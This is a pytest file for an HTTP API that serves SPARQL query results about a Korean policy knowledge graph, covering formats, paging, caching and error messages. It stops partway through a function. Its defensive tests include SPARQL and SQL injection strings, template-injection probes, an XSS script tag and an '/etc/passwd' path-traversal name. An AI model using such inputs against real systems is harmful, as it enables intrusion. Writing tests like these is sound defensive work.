"""The ready questions over HTTP, as analysts, spreadsheets and browsers get them: each row, each format."""

import csv
import io
import json
import re
import shutil
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qs, parse_qsl, quote, unquote, urljoin, urlsplit

import httpx
import pyoxigraph
import pytest
from pyoxigraph import NamedNode, QueryResultsFormat, QuerySolutions, RdfFormat

from gjgraph.core.header import QueryFile
from gjgraph.core.words import column_names
from gjgraph.operations.ask import questions
from gjgraph.storage.workspace import open_workspace
from tests.conftest import ROOT
from tests.live import live
from tests.sheets import Cell, read_sheet
from tests.test_questions import CASES, EXPECTED

QUESTIONS = questions(open_workspace(ROOT))
BASE = "https://w3id.org/gjgraph/"
XSD = "http://www.w3.org/2001/XMLSchema#"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SRJ = "application/sparql-results+json"
BROWSER = {"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
EN, KO = {"accept-language": "en"}, {"accept-language": "ko"}
TABLES = [case for case in CASES if case.endswith(".tsv")]
TRUTHS = [case for case in TABLES if (EXPECTED / case).read_text(encoding="utf-8") in ("true\n", "false\n")]
ROWS = [case for case in TABLES if case not in TRUTHS]
GRAPHS = [case for case in CASES if case.endswith(".nt")]
CONSTRUCTS = sorted(
    {case.rpartition(".")[0].partition("@")[0] for case in CASES if case.endswith((".nt", ".count"))}
)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A client of a server over the plan."""
    log = tmp_path_factory.mktemp("rest") / "log"
    with live(log) as server, httpx.Client(base_url=server.address, timeout=30) as opened:
        del opened.headers["accept"]
        yield opened


def asked(case: str) -> tuple[str, dict[str, str]]:
    """Read the name of an expected file: which question, with which parameters."""
    name, _, settings = case.rpartition(".")[0].partition("@")
    pairs = [pair.partition("=") for pair in settings.split("&") if pair]
    return name, {unquote(key): unquote(value) for key, _, value in pairs}


def expected_rows(case: str) -> tuple[list[str], list[list[str]]]:
    lines = (EXPECTED / case).read_text(encoding="utf-8").removesuffix("\n").split("\n")
    return lines[0].split("\t"), [line.split("\t") for line in lines[1:]]


def good(response: httpx.Response) -> httpx.Response:
    assert response.status_code == 200, response.text[:500]
    return response


def bindings(client: httpx.Client, name: str, given: dict[str, str]) -> list[dict[str, dict[str, str]]]:
    """Ask for SPARQL JSON, which tells the terms."""
    content = good(client.get(f"/questions/{name}.srj", params=given)).json()
    found: list[dict[str, dict[str, str]]] = content["results"]["bindings"]
    return found


def plain(term: dict[str, str] | None) -> object:
    """Give what a program expects of a term: numbers and truths as such, else its text."""
    if term is None:
        return None
    match term.get("datatype", "").removeprefix(XSD):
        case "integer":
            return int(term["value"])
        case "decimal" | "double" | "float":
            return float(term["value"])
        case "boolean":
            return term["value"] == "true"
    return term["value"]


# The list


def test_the_list_has_every_question_for_programs(client: httpx.Client) -> None:
    listed = good(client.get("/questions")).json()
    assert [each["name"] for each in listed] == list(QUESTIONS)
    for each in listed:
        question = QUESTIONS[each["name"]]
        assert each["id"] == question.id
        assert (each["summary"]["ko"], each["summary"]["en"]) == question.summary
        assert each["tags"] == list(question.tags)
        told = [
            (p["name"], p["type"], p["description"]["ko"], p["description"]["en"]) for p in each["parameters"]
        ]
        assert told == [(p.name, p.type, *p.description) for p in question.parameters]
        assert [None if p["default"] is None else str(p["default"]) for p in each["parameters"]] == [
            p.default for p in question.parameters
        ]


def test_the_list_leads_to_every_question(client: httpx.Client) -> None:
    for each in good(client.get("/questions")).json():
        good(client.head(each["href"]))


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_the_list_has_every_question_for_people(client: httpx.Client, lang: str) -> None:
    page = Page(good(client.get("/questions", headers={**BROWSER, "accept-language": lang})), lang)
    found = {urlsplit(link).path: words for link, words in page.links}
    for question in QUESTIONS.values():
        words = question.summary.ko if lang == "ko" else question.summary.en
        assert found[f"/questions/{question.name}"] == words
    page.check()


@pytest.mark.parametrize(
    ("accept", "fields", "status"),
    [
        ("application/json", {}, 200),
        ("text/html", {"format": "json"}, 200),
        ("application/json", {"format": "html"}, 200),
        ("image/png", {}, 406),
        (None, {"format": "nonsense"}, 406),
    ],
)
def test_the_list_is_negotiated(
    client: httpx.Client, accept: str | None, fields: dict[str, str], status: int
) -> None:
    response = client.get("/questions", params=fields, headers={"accept": accept} if accept else {})
    assert response.status_code == status
    if status == 200:
        wanted = fields.get("format") or (accept or "").rpartition("/")[2]
        assert wanted in response.headers["content-type"]


# Every question, every case, every format


@pytest.mark.parametrize("case", ROWS)
def test_as_sparql_json(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    columns, rows = expected_rows(case)
    response = good(client.get(f"/questions/{name}", params=given, headers={"accept": SRJ}))
    assert response.headers["content-type"] == SRJ
    assert response.json()["head"]["vars"] == columns
    found = response.json()["results"]["bindings"]
    assert [[row.get(column, {}).get("value", "") for column in columns] for row in found] == rows


@pytest.mark.parametrize("case", ROWS)
def test_as_plain_objects(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    columns, rows = expected_rows(case)
    response = good(client.get(f"/questions/{name}", params=given))
    assert response.headers["content-type"] == "application/json"
    typed = bindings(client, name, given)
    assert response.json() == [{column: plain(row.get(column)) for column in columns} for row in typed]
    assert len(response.json()) == len(rows)


@pytest.mark.parametrize("case", ROWS)
def test_as_csv(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    response = good(client.get(f"/questions/{name}.csv", params=given))
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.text == written_csv([*expected_rows(case)[:1], *expected_rows(case)[1]])


def written_csv(rows: list[list[str]]) -> str:
    """Write RFC 4180: CRLF after every record, quotes only where they are needed."""
    written = io.StringIO()
    csv.writer(written, lineterminator="\r\n").writerows(rows)
    # A single empty field may be written as nothing or as two quotes.
    return written.getvalue().replace('\r\n""\r\n', "\r\n\r\n")


@pytest.mark.parametrize("case", ROWS)
def test_as_tsv(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    columns, rows = expected_rows(case)
    response = good(client.get(f"/questions/{name}", params={**given, "format": "tsv"}))
    assert response.headers["content-type"] == "text/tab-separated-values; charset=utf-8"
    read = pyoxigraph.parse_query_results(response.content, format=QueryResultsFormat.TSV)
    assert isinstance(read, QuerySolutions)
    assert [variable.value for variable in read.variables] == columns
    assert [
        ["" if row[column] is None else getattr(row[column], "value", "") for column in columns]
        for row in read
    ] == rows


@pytest.mark.parametrize("case", ROWS)
def test_as_xlsx(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    columns, rows = expected_rows(case)
    response = good(client.get(f"/questions/{name}.xlsx", params=given))
    assert response.headers["content-type"] == XLSX
    head, *body = read_sheet(response.content)
    assert [head[place] for place in range(len(columns))] == [Cell("text", column) for column in columns]
    assert len(body) == len(rows)
    for row, typed in zip(body, bindings(client, name, given), strict=True):
        for place, column in enumerate(columns):
            value = plain(typed.get(column))
            match value:
                case None | "":
                    assert place not in row
                case bool():
                    assert row[place] == Cell("truth", str(int(value)))
                case int() | float():
                    assert row[place].kind == "number"
                    assert float(row[place].value) == value
                case _:
                    assert row[place] == Cell("text", str(value))


@pytest.mark.parametrize("case", TRUTHS)
def test_a_yes_or_no(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    text = (EXPECTED / case).read_text(encoding="utf-8").strip()
    assert good(client.get(f"/questions/{name}", params=given)).json() is (text == "true")
    assert good(client.get(f"/questions/{name}.srj", params=given)).json()["boolean"] is (text == "true")
    assert text in good(client.get(f"/questions/{name}.csv", params=given)).text
    assert Cell("truth", str(int(text == "true"))) in [
        cell
        for row in read_sheet(good(client.get(f"/questions/{name}.xlsx", params=given)).content)
        for cell in row.values()
    ]
    page = client.get(f"/questions/{name}", params=given, headers={**BROWSER, **EN})
    assert ("Yes" if text == "true" else "No") in page.text


@pytest.mark.parametrize("case", GRAPHS)
@pytest.mark.parametrize("kind", ["nt", "ttl", "rdf", "jsonld"])
def test_as_a_graph(client: httpx.Client, case: str, kind: str) -> None:
    name, given = asked(case)
    syntax = {
        "nt": RdfFormat.N_TRIPLES,
        "ttl": RdfFormat.TURTLE,
        "rdf": RdfFormat.RDF_XML,
        "jsonld": RdfFormat.JSON_LD,
    }[kind]
    response = good(client.get(f"/questions/{name}.{kind}", params=given))
    read = {f"{quad.triple} .\n" for quad in pyoxigraph.parse(response.content, format=syntax)}
    assert "".join(sorted(read)) == (EXPECTED / case).read_text(encoding="utf-8")


@pytest.mark.parametrize("case", [case for case in CASES if case.endswith(".count")])
def test_a_large_graph(client: httpx.Client, case: str) -> None:
    name, given = asked(case)
    response = good(client.get(f"/questions/{name}.nt", params=given))
    assert response.text.count("\n") == int((EXPECTED / case).read_text(encoding="utf-8"))


# Names and formats


def test_by_its_id_too(client: httpx.Client) -> None:
    with_id = [question for question in QUESTIONS.values() if question.id]
    assert len(with_id) >= 30
    for question in with_id:
        by_id = good(client.get(f"/questions/{question.id}"))
        assert by_id.content == good(client.get(f"/questions/{question.name}")).content


FORMATS = [
    ("", {}, None, "application/json", b"["),
    ("", {}, "*/*", "application/json", b"["),
    ("", {}, "application/json", "application/json", b"["),
    ("", {}, SRJ, SRJ, b'{"head"'),
    ("", {}, "text/csv", "text/csv", b"policy,number,strategy\r\n"),
    ("", {}, "text/csv;q=0.2, application/json;q=0.1", "text/csv", b"policy,"),
    ("", {}, "text/tab-separated-values", "text/tab-separated-values", b"?policy\t"),
    ("", {}, "application/sparql-results+xml", "application/sparql-results+xml", b"<?xml"),
    ("", {}, XLSX, XLSX, b"PK"),
    ("", {}, BROWSER["accept"], "text/html", b"<!DOCTYPE html>"),
    (".csv", {}, None, "text/csv", b"policy,"),
    (".csv", {}, BROWSER["accept"], "text/csv", b"policy,"),
    (".json", {}, BROWSER["accept"], "application/json", b"["),
    (".srj", {}, None, SRJ, b'{"head"'),
    (".tsv", {}, None, "text/tab-separated-values", b"?policy\t"),
    (".xml", {}, None, "application/sparql-results+xml", b"<?xml"),
    (".xlsx", {}, BROWSER["accept"], XLSX, b"PK"),
    (".html", {}, None, "text/html", b"<!DOCTYPE html>"),
    ("", {"format": "csv"}, BROWSER["accept"], "text/csv", b"policy,"),
    ("", {"format": "CSV"}, None, "text/csv", b"policy,"),
    ("", {"_format": "csv"}, None, "text/csv", b"policy,"),
    ("", {"format": "text/csv"}, None, "text/csv", b"policy,"),
    ("", {"format": SRJ}, None, SRJ, b'{"head"'),
    ("", {"format": "json"}, None, "application/json", b"["),
    ("", {"format": "xlsx"}, None, XLSX, b"PK"),
    ("", {"format": "html"}, None, "text/html", b"<!DOCTYPE html>"),
    ("", {"format": "spreadsheet"}, None, "text/csv", b"\xef\xbb\xbfpolicy,"),
    ("", {"format": "csv", "bom": "1"}, None, "text/csv", b"\xef\xbb\xbfpolicy,"),
    (".csv", {"bom": "1"}, None, "text/csv", b"\xef\xbb\xbfpolicy,"),
    ("", {"bom": "1"}, "text/csv", "text/csv", b"\xef\xbb\xbfpolicy,"),
    (".csv", {"bom": "0"}, None, "text/csv", b"policy,"),
]


@pytest.mark.parametrize(("ending", "fields", "accept", "kind", "begins"), FORMATS)
def test_formats(
    client: httpx.Client, ending: str, fields: dict[str, str], accept: str | None, kind: str, begins: bytes
) -> None:
    headers = {"accept": accept} if accept else {}
    response = good(client.get(f"/questions/strategies-in-order{ending}", params=fields, headers=headers))
    assert response.headers["content-type"].partition(";")[0] == kind
    assert response.content.startswith(begins)
    assert "accept" in response.headers["vary"].lower()


@pytest.mark.parametrize(
    ("path", "fields", "accept", "named"),
    [
        ("strategies-in-order", {"format": "exe"}, None, "text/csv"),
        ("strategies-in-order", {}, "image/png", "text/csv"),
        ("strategies-in-order", {"format": "nquads"}, None, "csv"),
        ("policy-as-a-graph.csv", {}, None, "turtle"),
        ("policy-as-a-graph.xlsx", {}, None, "turtle"),
    ],
)
def test_a_format_that_there_is_not(
    client: httpx.Client, path: str, fields: dict[str, str], accept: str | None, named: str
) -> None:
    headers = {"accept": accept} if accept else {}
    for lang in (KO, EN):
        response = client.get(f"/questions/{path}", params=fields, headers={**headers, **lang})
        assert response.status_code == 406
        assert named in problem(response, lang)


@pytest.mark.parametrize(
    ("path", "fields", "file"),
    [
        ("strategies-of-a-policy.csv", {}, "strategies-of-a-policy.csv"),
        ("CQ05.csv", {}, "strategies-of-a-policy.csv"),
        ("CQ05", {"format": "spreadsheet"}, "strategies-of-a-policy.csv"),
        ("CQ05.xlsx", {}, "strategies-of-a-policy.xlsx"),
        ("CQ05", {}, "strategies-of-a-policy.json"),
        ("policy-as-a-graph", {}, "policy-as-a-graph.ttl"),
    ],
)
def test_a_file_has_a_name(client: httpx.Client, path: str, fields: dict[str, str], file: str) -> None:
    response = good(client.get(f"/questions/{path}", params=fields))
    assert f'filename="{file}"' in response.headers["content-disposition"]


# Parameters


def problem(response: httpx.Response, lang: dict[str, str]) -> str:
    """Check that this is problem details in the reader's language, of HTTP and not of the command line."""
    assert response.headers["content-type"] == "application/problem+json"
    content = response.json()
    assert content["status"] == response.status_code
    assert bool(re.search("[가-힣]", content["title"])) is (lang == KO), content
    assert lang == EN or re.search("[가-힣]", content["detail"]), content
    assert content["type"]
    detail: str = content["detail"]
    assert "gjgraph questions" not in detail
    assert not re.search(r"(^|\s)--[a-z]", detail), detail
    # Both particles after a word that is known: nobody writes so.
    assert not re.search(r"[가-힣)](을\(를\)|은\(는\)|이\(가\))", detail), detail
    return detail


GIVEN: list[tuple[str, str, str, str]] = [
    # question, the query string as sent, the same in the plain form
    ("strategies-of-a-policy", "", "policy=2", "a default"),
    ("strategies-of-a-policy", "policy=%34", "policy=4", "percent-encoded"),
    ("strategies-of-a-policy", "policy=04", "policy=4", "leading zero"),
    ("strategies-of-a-policy", "policy=%2B4", "policy=4", "a sign"),
    ("strategies-of-a-policy", "%70olicy=4", "policy=4", "percent-encoded name"),
    ("elements-with-a-word", f"word={quote('품격있는')}", "word=품격있는", "Korean"),
    (
        "elements-with-a-word",
        f"word={quote(unicodedata.normalize('NFD', '품격있는'))}",
        "word=품격있는",
        "NFD",
    ),
    ("elements-with-a-word", f"word={quote('품격있는').lower()}", "word=품격있는", "lower-case escapes"),
    ("mentions-of-an-element", f"name={quote('품격있는')}+{quote('광주')}", "name=품격있는 광주", "a plus"),
    (
        "place-of-a-project-in-the-source",
        "project=KOICA%20%EA%B4%91%EC%A3%BC%EB%B6%84%EC%9B%90",
        "project=KOICA 광주분원",
        "a blank",
    ),
    ("policy-of-a-project", "project=Smart%20City&lang=ko", "project=Smart City", "a language beside it"),
]
IRI_FORMS = [
    "gwangju/m7/strategy/1-1",
    "id/gwangju/m7/strategy/1-1",
    "<id/gwangju/m7/strategy/1-1>",
    f"{BASE}id/gwangju/m7/strategy/1-1",
    f"<{BASE}id/gwangju/m7/strategy/1-1>",
]


@pytest.mark.parametrize(("name", "sent", "meant", "why"), GIVEN)
def test_parameters(client: httpx.Client, name: str, sent: str, meant: str, why: str) -> None:
    one = good(client.get(f"/questions/{name}.csv?{sent}"))
    other = good(client.get(f"/questions/{name}.csv", params=dict(parse_qsl(meant))))
    assert one.content == other.content, why
    assert one.content.count(b"\r\n") > 1


@pytest.mark.parametrize("form", IRI_FORMS)
def test_an_address_in_each_form_in_which_answers_show_it(client: httpx.Client, form: str) -> None:
    case = "children-of-an-element@element=gwangju%2Fm7%2Fstrategy%2F1-1.tsv"
    columns, rows = expected_rows(case)
    response = good(client.get("/questions/children-of-an-element.csv", params={"element": form}))
    assert response.text == written_csv([columns, *rows])


@pytest.mark.parametrize(
    "form", ["csp:Goal", "https://w3id.org/gjgraph/csp#Goal", "<https://w3id.org/gjgraph/csp#Goal>"]
)
def test_an_address_with_a_prefix(client: httpx.Client, form: str) -> None:
    response = good(client.get("/questions/everything-about-a-thing.nt", params={"thing": form}))
    about = list(pyoxigraph.parse(response.content, format=RdfFormat.N_TRIPLES))
    goal = NamedNode("https://w3id.org/gjgraph/csp#Goal")
    assert any(quad.subject == goal for quad in about)


HOSTILE = [
    '") } DROP ALL #',
    '") } UNION { ?a ?b ?c } #',
    "' UNION SELECT * --",
    "\\",
    '\\" } #',
    '"""',
    "}",
    "?thing",
    "<http://127.0.0.1:1/>",
    "a\nb\r\nc",
    "\u0000",
    "{{7*7}}",
    "${7*7}",
    "\ud7ff\ue000\U0001f600",
    "</script><script>alert(1)</script>",
    "%22%7D",
    "x" * 5000,
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_is_a_term_and_never_a_piece_of_the_query(client: httpx.Client, value: str) -> None:
    strings = [(q, p.name) for q in QUESTIONS.values() for p in q.parameters if p.type == "string"]
    assert len(strings) >= 10
    for question, name in strings:
        response = client.get(f"/questions/{question.name}.csv", params={name: value})
        assert good(response).content.count(b"\r\n") == 1, (question.name, response.text[:300])


@pytest.mark.parametrize("value", ["%C0%AF", "%FF", "%ED%A0%80", "%E0%80%80"])
def test_bytes_that_are_no_utf8(client: httpx.Client, value: str) -> None:
    for lang in (KO, EN):
        response = client.get(f"/questions/elements-with-a-word?word={value}", headers=lang)
        assert response.status_code == 400
        assert "UTF-8" in problem(response, lang)


BAD_VALUES = [
    ("strategies-of-a-policy", "policy", "x"),
    ("strategies-of-a-policy", "policy", "1.5"),
    ("strategies-of-a-policy", "policy", "1e3"),
    ("strategies-of-a-policy", "policy", "0x10"),
    ("strategies-of-a-policy", "policy", "٢"),
    ("strategies-of-a-policy", "policy", "２"),
    ("strategies-of-a-policy", "policy", "둘"),
    ("strategies-of-a-policy", "policy", "2 OR 1"),
    ("strategies-of-a-policy", "policy", "9" * 400),
    ("strategies-of-a-policy", "policy", "--2"),
    ("strategies-of-a-policy", "policy", "2) } UNION { ?a ?b ?c"),
    ("children-of-an-element", "element", "a b"),
    ("children-of-an-element", "element", "<a> } #"),
    ("children-of-an-element", "element", '"'),
    ("children-of-an-element", "element", "x{y}"),
    ("children-of-an-element", "element", "http://["),
]


@pytest.mark.parametrize(("name", "parameter", "value"), BAD_VALUES)
def test_a_value_of_the_wrong_type(client: httpx.Client, name: str, parameter: str, value: str) -> None:
    kinds = {"policy": ("정수", "integer"), "element": ("주소", "address")}
    for lang, kind in zip((KO, EN), kinds[parameter], strict=True):
        response = client.get(f"/questions/{name}", params={parameter: value}, headers=lang)
        assert response.status_code == 400
        detail = problem(response, lang)
        assert parameter in detail
        assert kind in detail
        assert value[:50] in detail
        # What was sent is shown, but not at any length.
        assert len(detail) < 600


def test_a_parameter_that_there_is_not(client: httpx.Client) -> None:
    for lang in (KO, EN):
        response = client.get("/questions/strategies-of-a-policy", params={"polcy": "2"}, headers=lang)
        assert response.status_code == 400
        detail = problem(response, lang)
        assert "polcy" in detail
        assert re.search(r"\bpolicy\b", detail.replace("strategies-of-a-policy", ""))
        none = client.get("/questions/strategies-in-order", params={"policy": "2"}, headers=lang)
        assert none.status_code == 400
        assert "policy" in problem(none, lang)


def test_a_parameter_given_twice(client: httpx.Client) -> None:
    for lang in (KO, EN):
        for sent in ("policy=1&policy=2", "policy=1&policy=1", "policy=&policy=2"):
            response = client.get(f"/questions/strategies-of-a-policy?{sent}", headers=lang)
            assert response.status_code == 400, sent
            assert "policy" in problem(response, lang)


@pytest.mark.parametrize(
    ("name", "similar"),
    [
        ("strategies-of-a-polcy", "strategies-of-a-policy"),
        ("Strategies-In-Order", "strategies-in-order"),
        ("strategy-in-order.csv", "strategies-in-order"),
        ("nothing", None),
        (quote("질문"), None),
        ("..%2F..%2Fetc%2Fpasswd", None),
        ("%00", None),
        ("strategies-in-order.exe", "strategies-in-order"),
        ("q" * 3000, None),
    ],
)
def test_a_question_that_there_is_not(client: httpx.Client, name: str, similar: str | None) -> None:
    for lang in (KO, EN):
        response = client.get(f"/questions/{name}", headers=lang)
        assert response.status_code == 404
        detail = problem(response, lang)
        if similar and name[0].islower():
            assert similar in detail
        assert "/questions" in detail or "/" in detail
    page = client.get(f"/questions/{name}", headers={**BROWSER, **KO})
    assert page.status_code == 404
    assert "<h1>" in page.text


@pytest.mark.parametrize("timeout", ["0", "-1", "x", "nan", "inf", "1e9", "31"])
def test_a_timeout_that_can_not_be(client: httpx.Client, timeout: str) -> None:
    for lang in (KO, EN):
        response = client.get("/questions/strategies-in-order", params={"timeout": timeout}, headers=lang)
        assert response.status_code == 400
        assert "timeout" in problem(response, lang)


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH"])
def test_other_methods(client: httpx.Client, method: str) -> None:
    for path in ("/questions", "/questions/strategies-in-order"):
        response = client.request(method, path)
        assert response.status_code == 405
        assert "GET" in response.headers["allow"]


# Pages of rows


@pytest.mark.parametrize(
    ("name", "fields", "count"),
    [
        ("strategies-in-order", {}, 7),
        ("strategies-in-order", {}, 20),
        ("strategies-in-order", {}, 19),
        ("strategies-in-order", {}, 1000),
        ("passages-in-order", {}, 100),
        ("strategies-of-a-policy", {"policy": "4"}, 3),
        ("strategies-of-a-policy", {"policy": "9"}, 3),
        ("elements-with-a-word", {"word": "품격있는"}, 1),
    ],
)
@pytest.mark.parametrize("ending", ["", ".csv", ".srj"])
def test_following_next_gives_every_row_once(
    client: httpx.Client, name: str, fields: dict[str, str], count: int, ending: str
) -> None:
    def rows(response: httpx.Response) -> list[object]:
        if ending == ".csv":
            return list(response.text.split("\r\n")[1:-1])
        return list(response.json()["results"]["bindings"] if ending else response.json())

    whole = good(client.get(f"/questions/{name}{ending}", params=fields))
    assert not {"first", "prev", "next", "last"} & set(whole.links)
    everything = rows(whole)
    collected: list[object] = []
    pages = 0
    params: dict[str, str] = {**fields, "per_page": str(count)}
    response = good(client.get(f"/questions/{name}{ending}", params=params))
    first, last = response.links["first"]["url"], response.links["last"]["url"]
    while True:
        pages += 1
        assert response.headers["x-total-count"] == str(len(everything))
        assert len(rows(response)) <= count
        assert ("prev" in response.links) is (pages > 1)
        assert response.links["first"]["url"] == first
        assert response.links["last"]["url"] == last
        collected += rows(response)
        if "next" not in response.links:
            break
        following = good(client.get(urljoin(str(response.url), response.links["next"]["url"])))
        back = good(client.get(urljoin(str(following.url), following.links["prev"]["url"])))
        assert back.content == response.content
        response = following
    assert collected == everything
    assert pages == max(1, -(-len(everything) // count))
    assert good(client.get(urljoin(str(response.url), last))).content == response.content


def test_a_page_past_the_end_is_empty_and_leads_back(client: httpx.Client) -> None:
    response = good(client.get("/questions/strategies-in-order", params={"page": "99", "per_page": "7"}))
    assert response.json() == []
    assert response.headers["x-total-count"] == "20"
    assert "next" not in response.links
    back = good(client.get(urljoin(str(response.url), response.links["last"]["url"])))
    assert len(back.json()) == 6
    page = good(client.get("/questions/strategies-in-order", params={"page": "99"}, headers=BROWSER))
    assert any("page=1" in link for link, _ in Page(page, "ko").links), "no way back"


def test_pages_have_a_hundred_rows_unless_asked(client: httpx.Client) -> None:
    total = len(good(client.get("/questions/passages-in-order")).json())
    assert total > 100
    assert len(good(client.get("/questions/passages-in-order", params={"page": "1"})).json()) == 100


@pytest.mark.parametrize("name", ["page", "per_page"])
@pytest.mark.parametrize(
    "value", ["0", "-1", "x", "1.5", "1e2", "٣", "３", "+1", " 1", "9" * 30, "1000001", "둘"]
)
def test_a_page_that_can_not_be(client: httpx.Client, name: str, value: str) -> None:
    for lang in (KO, EN):
        response = client.get("/questions/strategies-in-order", params={name: value}, headers=lang)
        assert response.status_code == 400
        detail = problem(response, lang)
        assert name in detail
        assert "1" in detail


@pytest.mark.parametrize("path", ["policy-as-a-graph", "do-all-declared-counts-hold"])
def test_what_has_no_rows_has_no_pages(client: httpx.Client, path: str) -> None:
    """A total of 0 above a graph, or above a yes, would be a lie."""
    for headers in ({}, BROWSER):
        response = good(client.get(f"/questions/{path}", params={"page": "1"}, headers=headers))
        assert response.headers.get("x-total-count") != "0"
        assert "모두 0행" not in response.text


def test_a_program_in_a_browser_may_read_what_it_needs(client: httpx.Client) -> None:
    headers = {"origin": "https://analyst.example"}
    response = good(client.get("/questions/strategies-in-order", params={"page": "1"}, headers=headers))
    assert response.headers["access-control-allow-origin"] == "*"
    exposed = response.headers["access-control-expose-headers"].lower()
    for name in ("link", "x-total-count", "etag"):
        assert name in exposed


# HTTP


@pytest.mark.parametrize("ending", ["", ".csv", ".srj", ".tsv", ".xlsx", ".html"])
def test_head_says_what_get_would(client: httpx.Client, ending: str) -> None:
    path = f"/questions/strategies-in-order{ending}"
    got, head = good(client.get(path)), good(client.head(path))
    assert head.content == b""
    for name in ("content-type", "content-length", "etag", "content-disposition", "cache-control"):
        assert head.headers.get(name) == got.headers.get(name), name


@pytest.mark.parametrize("ending", ["", ".csv", ".srj", ".tsv", ".xlsx", ".html"])
def test_what_has_not_changed_is_not_sent_again(client: httpx.Client, ending: str) -> None:
    path = f"/questions/strategies-of-a-policy{ending}"
    tag = good(client.get(path)).headers["etag"]
    assert re.fullmatch(r'"[^"]+"', tag), "a strong tag"
    for sent in (tag, f'"other", {tag}', f"W/{tag}", "*"):
        again = client.get(path, headers={"if-none-match": sent})
        assert again.status_code == 304, sent
        assert again.content == b""
        assert again.headers["etag"] == tag
    assert good(client.get(path, headers={"if-none-match": '"other"'})).headers["etag"] == tag


def test_tags_differ_where_answers_do(client: httpx.Client) -> None:
    path = "/questions/strategies-of-a-policy"
    variants = [
        "",
        ".csv",
        ".srj",
        ".html",
        "?policy=3",
        ".csv?bom=1",
        "?per_page=2",
        "?per_page=2&page=2",
        ".html?lang=en",
        ".html?policy=2",
        ".html?policy=02",
    ]
    tags = [good(client.get(path + variant)).headers["etag"] for variant in variants]
    assert len(set(tags)) == len(variants)


def test_headers_are_said_once(client: httpx.Client) -> None:
    for headers in ({}, BROWSER):
        response = good(client.get("/questions/strategies-in-order", headers=headers))
        names = [name.lower() for name, _ in response.headers.raw]
        assert len(names) == len(set(names)), names
        words = [word.strip().lower() for word in response.headers["vary"].split(",")]
        assert len(words) == len(set(words)), words
        assert response.headers["x-content-type-options"] == "nosniff"


# Pages for people


OWN_PART = r"(?:[./]*/)?browser/[\w./-]+"


class Page(HTMLParser):
    """A page as a browser without JavaScript sees it."""

    def __init__(self, response: httpx.Response, lang: str) -> None:
        super().__init__()
        self.response = response
        self.links: list[tuple[str, str]] = []
        self.inputs: dict[str, dict[str, str]] = {}
        self.labels: set[str] = set()
        self.forms: list[dict[str, str]] = []
        self.cells: list[list[str]] = []
        self.headings: list[str] = []
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.lang = lang
        self.into: list[str] = []
        self.is_main = False
        """Whether it is past the frame that all pages have above."""
        self.choosing = ""
        self.said = False
        self.feed(response.text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        self.tags.append((tag, found))
        match tag:
            case "a":
                self.links.append((found.get("href", ""), ""))
            case "main":
                self.is_main = True
            case "input" | "textarea" | "select" if self.is_main:
                self.inputs[found.get("name") or found["id"]] = found
                self.choosing = found.get("name", "") if tag == "select" else ""
            case "option" if "selected" in found:
                self.inputs[self.choosing]["value"] = found["value"]
            case "label":
                self.labels.add(found.get("for", ""))
            case "form" if self.is_main:
                self.forms.append(found)
            case "tr":
                self.cells.append([])
            case "td" | "th":
                self.cells[-1].append("")
        if tag in ("a", "td", "th", "h1"):
            self.into.append(tag)
        # Where a name stands in the reader's language, this is what the answer says.
        if tag == "span" and found.get("class") == "said":
            self.cells[-1][-1] = ""
            self.said = True

    def handle_endtag(self, tag: str) -> None:
        self.said = False
        if self.into and self.into[-1] == tag:
            self.into.pop()

    def handle_data(self, data: str) -> None:
        if "a" in self.into:
            self.links[-1] = (self.links[-1][0], self.links[-1][1] + data)
        if {"td", "th"} & {*self.into}:
            self.cells[-1][-1] += data
        if "h1" in self.into:
            self.headings.append(data)

    def check(self) -> None:
        """Check what goes for every page."""
        assert self.response.text.startswith("<!DOCTYPE html>")
        names = [tag for tag, _ in self.tags]
        assert not {"iframe", "object", "embed", "img"} & set(names)
        # What is fetched and what runs is the server's own; other scripts are data.
        for tag, found in self.tags:
            if tag == "link" and {"stylesheet", "icon", "preload", "prefetch"} & {*found["rel"].split()}:
                assert re.fullmatch(OWN_PART, found["href"])
            if tag == "script":
                assert found["type"] in ("application/ld+json", "application/json", "module")
                assert re.fullmatch(OWN_PART, found.get("src", "/browser/x.js"))
        assert not [n for _, found in self.tags for n in found if n.startswith("on")]
        assert not [
            v for _, found in self.tags for n, v in found.items() if n == "href" and "javascript:" in v
        ]
        assert ("html", self.lang) in [(tag, found.get("lang")) for tag, found in self.tags]
        assert names.count("h1") == 1
        assert "main" in names
        policy = self.response.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        for name, found in self.inputs.items():
            if found.get("type") != "hidden":
                assert found["id"] in self.labels or found.get("aria-label"), f"no label for {name}"

    def follow(self, client: httpx.Client) -> None:
        """Follow every link of the page that stays here: none is dead."""
        for link, words in self.links:
            target = urljoin(str(self.response.url), link)
            if urlsplit(target).netloc != self.response.url.netloc.decode():
                continue
            response = client.get(target, headers=BROWSER)
            assert response.status_code == 200, (link, words, response.text[:200])


NOTHING_FOUND = {"ko": "답이 없습니다.", "en": "There is no answer"}


def page_of(client: httpx.Client, path: str, lang: str, **fields: str) -> Page:
    response = client.get(path, params={"lang": lang, **fields}, headers=BROWSER)
    page = Page(good(response), lang)
    page.check()
    return page


@pytest.mark.parametrize("lang", ["ko", "en"])
@pytest.mark.parametrize("question", QUESTIONS.values(), ids=lambda question: question.name)
def test_every_question_has_a_page(client: httpx.Client, question: QueryFile, lang: str) -> None:
    page = page_of(client, f"/questions/{question.name}", lang)
    assert "".join(page.headings) == (question.summary.ko if lang == "ko" else question.summary.en)
    for parameter in question.parameters:
